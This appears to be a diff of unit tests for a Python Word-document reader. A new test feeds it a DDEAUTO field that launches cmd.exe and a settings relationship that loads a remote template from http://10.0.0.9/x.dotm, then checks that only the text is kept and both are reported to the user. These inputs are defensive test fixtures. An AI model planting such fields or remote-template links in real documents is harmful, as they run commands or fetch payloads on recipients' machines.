@@ -603,7 +603,7 @@ def test_what_cannot_be_taken_is_told() -> None:
         "有 1 个嵌入的对象（如表格文件、公式）没有带过来。请在 Word 中换成文字、表格或图片后再生成一次。",
         "有 1 处公式只带过来了其中的文字。请核对；要保留原样的，请在 Word 中换成图片。",
         "有 1 处从其他文件插入的内容没有读到。请用 Word 打开文档、另存一次后再生成一次。",
-        "文档中的宏没有带过来，不影响文字。",
+        "文档中的宏没有运行，也没有带过来，不影响文字。请不要启用。",
     )
 
 
@@ -1071,3 +1071,26 @@ def test_endless_nesting(inside: str) -> None:
         else:
             with pytest.raises(Unreadable, match="不是完整的 Word 文档"):
                 read_word(content)
+
+
+def test_what_reaches_outside_is_told_and_left_there() -> None:
+    field = "".join(
+        f"<w:r>{inside}</w:r>"
+        for inside in (
+            '<w:fldChar w:fldCharType="begin"/>',
+            '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>',
+            '<w:fldChar w:fldCharType="separate"/>',
+            "<w:t>见附件</w:t>",
+            '<w:fldChar w:fldCharType="end"/>',
+        )
+    )
+    simple = f'<w:fldSimple w:instr="DDE cmd">{r("等")}</w:fldSimple>'
+    kind = f"{SPACES['r']}/attachedTemplate"
+    link = f'<Relationship Id="rId1" Type="{kind}" Target="http://10.0.0.9/x.dotm" TargetMode="External"/>'
+    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}</Relationships>'
+    prose = _read(p(r("正文"), field, simple), replaced={"word/_rels/settings.xml.rels": rels.encode()})
+    assert _texts(prose) == ["正文见附件等"]
+    assert [remark.partition("（")[0] for remark in prose.remarks] == [
+        "有 2 处调用其他程序的域",
+        "有 1 处引用外部的文件或网址",
+    ]
